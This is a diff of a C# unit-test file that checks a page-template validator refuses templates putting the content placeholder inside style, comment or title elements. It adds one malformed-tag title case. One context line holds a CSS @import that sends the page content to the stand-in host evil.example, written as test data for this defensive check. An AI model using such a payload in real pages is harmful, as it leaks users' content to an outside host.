@@ -86,6 +86,7 @@ public sealed class PageTemplatesTests
     [TestCase("<style>p { color: red; }</style><STYLE>@import url(\"https://evil.example/c?{{ content }}\");</STYLE>", "inside a <style> element")]
     [TestCase("<!-- note --><!-- {{ content }} -->", "inside a comment")]
     [TestCase("<title>{{ content }}</title>", "inside a <title> element")]
+    [TestCase("<title>Acme</titlex><style></style-x>{{ content }}</title>", "inside a <title> element")]
     public void Problem_ContentInsideATagACommentOrAnElementOfText_IsRefusedNamingWhere(string template, string where)
     {
         var problem = PageTemplates.Problem(template, Acme);
